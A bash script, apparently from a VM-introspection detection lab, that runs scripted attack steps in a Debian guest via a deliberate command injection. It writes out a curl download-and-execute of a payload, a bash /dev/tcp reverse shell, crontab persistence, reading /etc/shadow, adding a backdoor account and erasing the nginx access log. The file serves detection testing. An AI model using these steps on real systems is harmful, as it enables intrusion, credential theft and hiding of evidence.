#!/bin/bash
# The lab's attack scenarios in the Debian guest (docs/detection.md, "Live scenarios"): the demo guest's steps done
# the Debian way, after the command injection in nginx's /cgi-bin/ping (fcgiwrap runs it as www-data).
# `vmiscope guest attack --distro debian` runs each step through that injection as
#     echo BASE64-OF-THIS-FILE | base64 -d | LAB_HOST=10.0.2.2 LAB_HTTP_PORT=P LAB_SHELL_PORT=Q bash -s STEP
# LAB_HOST is the host's loopback as QEMU's user networking shows it to the guest; LAB_HTTP_PORT serves the payload
# (/lab-payload) and LAB_SHELL_PORT is the listener for the reverse shell, both on the host's 127.0.0.1 only.
# Steps that need root use the lab's second deliberate flaw: www-data may run anything through sudo.
set -u
case "${1:-}" in
injection)      # a shell started from the web server: who and where am I
    id; uname -sr ;;
download)       # a tool fetched into /tmp, made executable and run
    curl -sf -o /tmp/lab-payload "http://$LAB_HOST:$LAB_HTTP_PORT/lab-payload" && chmod +x /tmp/lab-payload \
        && /tmp/lab-payload ;;
reverse-shell)  # bash's /dev/tcp connects out, then bash becomes an interactive shell on that socket (netcat-openbsd
                # has no -e)
    bash -c "exec bash -i <>/dev/tcp/$LAB_HOST/$LAB_SHELL_PORT >&0 2>&0" </dev/null >/dev/null 2>&1 &
    echo "reverse shell started" ;;
crontab)        # persistence: the payload every five minutes in the web server user's crontab
    { crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/lab-payload'; } | crontab - && crontab -l | tail -1 ;;
shadow)         # credential access: the password hashes, as root through sudo
    sudo -n cat /etc/shadow ;;
module)         # code put into the running kernel (a harmless spare module of the guest)
    sudo -n modprobe dummy && grep '^dummy ' /proc/modules ;;
user-added)     # an account to come back with
    name="lab-$(date +%s)" && sudo -n useradd --no-create-home --shell /bin/bash "$name" && getent passwd "$name" ;;
log-truncation) # the web server's access log, with the injected requests, erased
    sudo -n bash -c ': >/var/log/nginx/access.log' && wc -c /var/log/nginx/access.log ;;
*)
    echo "usage: bash -s injection|download|reverse-shell|crontab|shadow|module|user-added|log-truncation" >&2
    exit 2 ;;
esac
